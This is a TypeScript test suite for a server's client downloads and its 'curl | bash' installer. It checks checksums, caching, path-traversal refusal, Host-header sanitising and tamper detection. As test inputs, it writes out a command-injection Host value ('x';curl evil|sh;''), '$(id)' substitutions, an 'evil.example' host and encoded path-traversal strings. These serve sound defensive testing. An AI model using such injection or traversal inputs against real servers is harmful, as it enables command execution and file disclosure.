import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { createHash } from 'node:crypto'
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { after, test, type TestContext } from 'node:test'
import { promisify } from 'node:util'
import { buildClients, downloadsDir } from '../../scripts/build-clients.ts'
import { createApi } from '../src/api/server.ts'
import { callWith } from './call.ts'
import { nodesUnderTest } from './nodes.ts'
import { startTestServer } from './harness.ts'

/* The clients that a server gives to everyone, installed as its pages tell. */

const run = promisify(execFile)
await buildClients(downloadsDir)
const server = await startTestServer({ after })
const origin = (await server.listen()).origin
const { anonymous } = server

test('everyone can fetch the clients, whole and unchanged', async () => {
  const sums = (await anonymous('GET', '/downloads/SHA256SUMS')).bytes.toString()
  const lines = sums.trim().split('\n')
  assert.deepEqual(
    lines.map((line) => line.split('  ')[1]),
    ['computer-cli.tgz', 'computer-mcp.tgz', 'computer-sdk.tgz'],
  )
  for (const line of lines) {
    const [sum, name] = line.split('  ')
    const { status, bytes, headers } = await anonymous('GET', `/downloads/${name}`)
    assert.deepEqual([status, headers['content-type']], [200, 'application/gzip'])
    assert.equal(createHash('sha256').update(bytes).digest('hex'), sum)
    assert.equal(Number(headers['content-length']), bytes.length)
    const head = await anonymous('HEAD', `/downloads/${name}`)
    assert.deepEqual([head.status, head.bytes.length], [200, 0])
    assert.equal(head.headers['content-length'], headers['content-length'])
  }
})

test('a cache asks again, and is told that nothing changed', async () => {
  const { headers } = await anonymous('GET', '/downloads/computer-sdk.tgz')
  assert.equal(headers['cache-control'], 'no-cache')
  const again = await anonymous('GET', '/downloads/computer-sdk.tgz', undefined, {
    'if-none-match': String(headers['etag']),
  })
  assert.deepEqual([again.status, again.bytes.length], [304, 0])
})

test('nothing else of the folder is served, and no other folder', async () => {
  for (const name of [
    '.sources',
    'toString',
    '..%2f..%2fpackage.json',
    '%2e%2e/package.json',
    '',
  ]) {
    assert.equal((await anonymous('GET', `/downloads/${name}`)).status, 404, name)
  }
})

test('a server without built clients says so', async (t) => {
  const bare = createApi(server.app, { downloadsDir: '/nonexistent' })
  t.after(() => bare.close())
  const { status, body } = await callWith(bare, {})('GET', '/downloads/computer-cli.tgz')
  assert.equal(status, 501)
  assert.match(body.error.message, /npm run setup/)
})

test('the installer names the address of the server, and no other', async (t) => {
  const named = async (app: typeof server, host: string) => {
    const { bytes } = await app.anonymous('GET', '/install.sh', undefined, { host })
    return /^server=(.*)$/m.exec(bytes.toString())?.[1]
  }
  assert.equal(await named(server, '192.0.2.7:7080'), "'http://192.0.2.7:7080'")
  assert.equal(await named(server, 'localhost:9000'), "'http://localhost:9000'")
  const own = "'http://127.0.0.1:7080'"
  for (const host of [
    'evil.example',
    "x';curl evil|sh;'",
    '$(id)',
    'a b',
    '127.0.0.1.evil.example',
  ])
    assert.equal(await named(server, host), own, host)
  const COMPUTER_BASE_URL = "https://computer.example.com/it's/$(id)/"
  const configured = await startTestServer(t, { worker: false, env: { COMPUTER_BASE_URL } })
  const line = await named(configured, '192.0.2.7')
  const { stdout } = await run('bash', ['-c', `server=${line}; printf %s "$server"`])
  assert.equal(stdout, new URL(COMPUTER_BASE_URL).href.replace(/\/$/, ''))
})

for (const { name, dir } of await nodesUnderTest()) {
  test(`curl | bash installs the command line, again and again, on ${name}`, async (t) => {
    const home = await folder(t)
    const noNpm = await folder(t)
    for (const program of ['npm', 'npx']) {
      await writeFile(join(noNpm, program), '#!/bin/sh\necho "$0 was run" >&2; exit 1\n')
      await chmod(join(noNpm, program), 0o755)
    }
    const PATH = `${noNpm}:${dir}:/usr/bin:/bin`
    const bash = (script: string, path = PATH) =>
      run('bash', ['-c', `set -o pipefail; ${script}`], { env: { HOME: home, PATH: path } })
    const install = `curl -fsS ${origin}/install.sh | bash`
    const first = await bash(install)
    assert.match(first.stdout, /^Installed computer 0\.1\.0 as /)
    assert.match(first.stdout, /export PATH="\$HOME\/\.local\/bin:\$PATH"/)
    assert.ok(first.stdout.includes(`computer login --url ${origin}`))
    const inPath = `${home}/.local/bin:${PATH}`
    const again = await bash(install, inPath)
    assert.doesNotMatch(again.stdout, /PATH/)
    assert.equal((await readdir(join(home, '.local/share/computer'))).length, 1)

    await writeFile(join(home, 'key'), server.key)
    const use = `cd && computer login --url ${origin} --key <key && computer machines create first`
    const used = await bash(`${use} && computer machines list`, inPath)
    assert.match(used.stdout, /^first +running/m)
    await bash('computer machines delete first --yes', inPath)
  })
}

test('the installer does not replace a program of another origin', async (t) => {
  const home = await folder(t)
  const bin = join(home, '.local/bin')
  await mkdir(bin, { recursive: true })
  await writeFile(join(bin, 'computer'), 'mine')
  const failure = await install(home)
  assert.match(failure, /computer is not of this installation/)
  assert.equal(await readFile(join(bin, 'computer'), 'utf8'), 'mine')
})

test('the installer refuses a package with another checksum, and leaves nothing', async (t) => {
  const home = await folder(t)
  const tampered = await folder(t)
  for (const name of await readdir(downloadsDir))
    await writeFile(join(tampered, name), await readFile(join(downloadsDir, name)))
  await writeFile(join(tampered, 'computer-cli.tgz'), 'not the package')
  const http = createApi(server.app, { downloadsDir: tampered })
  t.after(() => http.close())
  await http.listen({ host: '127.0.0.1', port: 0 })
  const { port } = http.server.address() as AddressInfo
  assert.match(
    await install(home, { from: `http://127.0.0.1:${port}` }),
    /does not have the checksum/,
  )
  assert.deepEqual(await readdir(home), [])
})

test('the installer tells what is missing where Node is too old or absent', async (t) => {
  const home = await folder(t)
  const bin = await folder(t)
  for (const name of ['bash', 'curl', 'readlink', 'mktemp', 'rm'])
    await symlink(join('/usr/bin', name), join(bin, name))
  assert.match(await install(home, { PATH: bin }), /Node\.js is not installed\. Install version 20/)
  const old = '#!/bin/bash\n[ "$1" = --version ] && echo v18.20.4\nexit 1\n'
  await writeFile(join(bin, 'node'), old)
  await chmod(join(bin, 'node'), 0o755)
  assert.match(await install(home, { PATH: bin }), /Node\.js v18\.20\.4 is too old/)
  assert.deepEqual(await readdir(home), [])
})

/** What an installation that must fail says. */
async function install(
  home: string,
  {
    from = origin,
    PATH = `${dirname(process.execPath)}:/usr/bin:/bin`,
  }: { readonly from?: string; readonly PATH?: string } = {},
): Promise<string> {
  const command = `set -o pipefail; curl -fsS ${from}/install.sh | bash`
  const failed = await run('bash', ['-c', command], { env: { HOME: home, PATH } }).then(
    () => assert.fail('it was installed'),
    (error: { stderr: string }) => error.stderr,
  )
  return failed
}

async function folder(t: TestContext): Promise<string> {
  const path = await mkdtemp(join(tmpdir(), 'computer-downloads-'))
  t.after(() => rm(path, { recursive: true, force: true }))
  return path
}
